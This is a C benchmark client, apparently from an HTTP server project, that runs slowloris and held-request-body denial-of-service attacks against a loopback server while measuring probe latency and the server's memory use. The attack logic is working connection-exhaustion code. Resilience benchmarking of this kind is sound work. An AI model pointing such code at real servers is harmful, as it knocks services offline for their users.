/* A bench-only client playing the two attacks of bench/http/attack on
 * loopback, bounded in time. Not installed, not a test.
 *
 *   attack slowloris PORT CONNECTIONS SECONDS
 *     keeps CONNECTIONS connections that trickle a request head, one header
 *     line a second each, reopening every one the server closes; meanwhile
 *     a normal client sends one request at a time, each on a new
 *     connection, and counts answers with status 200 within 2 s. Prints
 *     "probes ok p50_ms p99_ms max_ms slow_open".
 *
 *   attack heldbody PORT CONNECTIONS BODY_BYTES PID
 *     opens CONNECTIONS connections that each send a head declaring
 *     BODY_BYTES and all of the body but its last byte, then hold; prints
 *     the RSS of PID (KiB) once all are sent, then closes them all and
 *     prints the RSS again once it settles, and how many connections were
 *     answered early (refused). Prints "rss_held_kib rss_after_kib refused". */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static int port;

static double now_ms(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec * 1e3 + (double)ts.tv_nsec / 1e6;
}

static int connect_to(int nonblock)
{
    int fd = socket(AF_INET, SOCK_STREAM | (nonblock ? SOCK_NONBLOCK : 0), 0);
    if (fd < 0)
        return -1;
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (connect(fd, (struct sockaddr *)&a, sizeof(a)) != 0 && errno != EINPROGRESS) {
        close(fd);
        return -1;
    }
    return fd;
}

/* ---- slowloris ---- */

static atomic_int stop_probe;

typedef struct {
    double *lat;
    int n, cap, ok;
} probes_t;

/* One request on a new connection; its latency in ms, or -1. */
static double probe_once(void)
{
    double t0 = now_ms();
    int fd = connect_to(0);
    if (fd < 0)
        return -1;
    struct timeval tv = {.tv_sec = 2};
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
    setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
    static const char req[] = "GET /hello HTTP/1.1\r\nHost: bench\r\nConnection: close\r\n\r\n";
    double lat = -1;
    if (send(fd, req, sizeof(req) - 1, MSG_NOSIGNAL) == (ssize_t)sizeof(req) - 1) {
        char buf[256];
        ssize_t n = recv(fd, buf, sizeof(buf) - 1, 0);
        if (n >= 12 && memcmp(buf, "HTTP/1.1 200", 12) == 0)
            lat = now_ms() - t0;
    }
    close(fd);
    return lat;
}

static void *probe_main(void *arg)
{
    probes_t *p = arg;
    while (!atomic_load(&stop_probe)) {
        double lat = probe_once();
        if (p->n == p->cap) {
            p->cap = p->cap ? 2 * p->cap : 1024;
            p->lat = realloc(p->lat, (size_t)p->cap * sizeof(double));
        }
        p->lat[p->n++] = lat;
        if (lat >= 0)
            p->ok++;
        usleep(10000); /* a request every ~10 ms */
    }
    return NULL;
}

static int cmp_double(const void *a, const void *b)
{
    double x = *(const double *)a, y = *(const double *)b;
    return x < y ? -1 : x > y;
}

typedef struct {
    int fd;
    double next; /* when the next line is due */
    int sent;
} slow_t;

static void slow_open(slow_t *s, int ep, int i, double t)
{
    s->fd = connect_to(1);
    s->sent = 0;
    s->next = t;
    if (s->fd >= 0) {
        struct epoll_event ev = {.events = EPOLLIN | EPOLLRDHUP, .data.u32 = (uint32_t)i};
        epoll_ctl(ep, EPOLL_CTL_ADD, s->fd, &ev);
    }
}

static int slowloris(int nslow, double seconds)
{
    int ep = epoll_create1(0);
    slow_t *s = calloc((size_t)nslow, sizeof(*s));
    double t = now_ms(), end = t + seconds * 1e3;
    for (int i = 0; i < nslow; i++)
        slow_open(&s[i], ep, i, t + (double)(i % 1000)); /* spread over a second */
    /* Let them all be in place before the normal client starts. */
    double settle = t + 1500;
    probes_t probes = {0};
    pthread_t th;
    bool started = false;
    long reopened = 0;
    struct epoll_event evs[256];
    while ((t = now_ms()) < end) {
        if (!started && t >= settle) {
            pthread_create(&th, NULL, probe_main, &probes);
            started = true;
        }
        int n = epoll_wait(ep, evs, 256, 5);
        for (int k = 0; k < n; k++) {
            slow_t *c = &s[evs[k].data.u32];
            char buf[4096];
            ssize_t got = recv(c->fd, buf, sizeof(buf), MSG_DONTWAIT);
            if (got == 0 || (got < 0 && errno != EAGAIN) || (evs[k].events & (EPOLLRDHUP | EPOLLHUP))) {
                close(c->fd); /* closed or answered: come back at once */
                slow_open(c, ep, (int)evs[k].data.u32, t);
                reopened++;
            }
        }
        for (int i = 0; i < nslow; i++) {
            slow_t *c = &s[i];
            if (c->fd < 0) {
                slow_open(c, ep, i, t + 100);
                continue;
            }
            if (t < c->next)
                continue;
            char line[64];
            int len = c->sent == 0 ? snprintf(line, sizeof line, "GET /hello HTTP/1.1\r\nHost: b\r\n")
                                   : snprintf(line, sizeof line, "X-%d: %d\r\n", c->sent, i);
            if (send(c->fd, line, (size_t)len, MSG_NOSIGNAL | MSG_DONTWAIT) == len) {
                c->sent++;
                c->next = t + 1000;
            } else if (errno != EAGAIN && errno != ENOTCONN) {
                close(c->fd);
                slow_open(c, ep, i, t);
                reopened++;
            } else {
                c->next = t + 50;
            }
        }
    }
    atomic_store(&stop_probe, 1);
    if (started)
        pthread_join(th, NULL);
    int open_now = 0;
    for (int i = 0; i < nslow; i++)
        if (s[i].fd >= 0) {
            open_now++;
            close(s[i].fd);
        }
    double *ok = malloc((size_t)(probes.n ? probes.n : 1) * sizeof(double));
    int nok = 0;
    double worst = 0;
    for (int i = 0; i < probes.n; i++)
        if (probes.lat[i] >= 0)
            ok[nok++] = probes.lat[i];
    qsort(ok, (size_t)nok, sizeof(double), cmp_double);
    if (nok)
        worst = ok[nok - 1];
    /* Percentiles over all probes: a failed one counts as infinitely slow. */
    double p50 = probes.n && probes.n / 2 < nok ? ok[probes.n / 2] : -1;
    int i99 = (int)((double)probes.n * 0.99);
    double p99 = probes.n && i99 < nok ? ok[i99] : -1;
    printf("%d %d %.2f %.2f %.2f %d %ld\n", probes.n, probes.ok, p50, p99, worst, open_now,
           reopened);
    free(ok);
    free(probes.lat);
    free(s);
    close(ep);
    return 0;
}

/* ---- held bodies ---- */

static long rss_kib(int pid)
{
    char path[64], line[256];
    snprintf(path, sizeof path, "/proc/%d/status", pid);
    FILE *f = fopen(path, "r");
    long v = -1;
    while (f && fgets(line, sizeof line, f))
        if (sscanf(line, "VmRSS: %ld", &v) == 1)
            break;
    if (f)
        fclose(f);
    return v;
}

/* The RSS of every process in the list (nginx: master and workers). */
static long rss_sum(char **pids, int n)
{
    long sum = 0;
    for (int i = 0; i < n; i++)
        sum += rss_kib(atoi(pids[i]));
    return sum;
}

static int heldbody(int nconn, long body, char **pids, int npids)
{
    int *fds = calloc((size_t)nconn, sizeof(int));
    char *chunk = malloc(65536);
    memset(chunk, 'b', 65536);
    int refused = 0;
    long peak = 0;
    for (int i = 0; i < nconn; i++) {
        fds[i] = connect_to(0);
        if (fds[i] < 0)
            continue;
        struct timeval tv = {.tv_sec = 2};
        setsockopt(fds[i], SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
        char head[256];
        int hl = snprintf(head, sizeof head,
                          "POST /hello HTTP/1.1\r\nHost: b\r\nContent-Length: %ld\r\n\r\n", body);
        long left = body - 1;
        bool ok = send(fds[i], head, (size_t)hl, MSG_NOSIGNAL) == hl;
        while (ok && left > 0) {
            size_t n = left > 65536 ? 65536 : (size_t)left;
            ssize_t w = send(fds[i], chunk, n, MSG_NOSIGNAL);
            if (w <= 0)
                ok = false;
            else
                left -= w;
        }
        if (!ok) {
            close(fds[i]);
            fds[i] = -1;
            refused++;
        }
        if (i % 50 == 49) {
            long r = rss_sum(pids, npids);
            if (r > peak)
                peak = r;
        }
    }
    usleep(300000); /* let the server take in what is in flight */
    long held = rss_sum(pids, npids);
    for (int i = 0; i < nconn; i++) {
        /* Answered already (a 503), or reset: a reset drops the answer
         * that came before it. */
        char buf[64];
        if (fds[i] < 0)
            continue;
        ssize_t got = recv(fds[i], buf, sizeof buf, MSG_DONTWAIT);
        if (got >= 0 || (errno != EAGAIN && errno != EWOULDBLOCK))
            refused++;
    }
    if (held > peak)
        peak = held;
    for (int i = 0; i < nconn; i++)
        if (fds[i] >= 0)
            close(fds[i]);
    /* Wait for the RSS to settle: unchanged over 300 ms, at most 5 s. */
    long after = rss_sum(pids, npids), prev = -1;
    for (int i = 0; i < 50 && after != prev; i++) {
        usleep(300000);
        prev = after;
        after = rss_sum(pids, npids);
    }
    printf("%ld %ld %d\n", peak, after, refused);
    free(fds);
    free(chunk);
    return 0;
}

int main(int argc, char **argv)
{
    if (argc >= 5 && strcmp(argv[1], "slowloris") == 0) {
        port = atoi(argv[2]);
        return slowloris(atoi(argv[3]), atof(argv[4]));
    }
    if (argc >= 6 && strcmp(argv[1], "heldbody") == 0) {
        port = atoi(argv[2]);
        return heldbody(atoi(argv[3]), atol(argv[4]), argv + 5, argc - 5);
    }
    fprintf(stderr, "usage: attack slowloris PORT CONNECTIONS SECONDS\n"
                    "       attack heldbody PORT CONNECTIONS BODY_BYTES PID...\n");
    return 2;
}
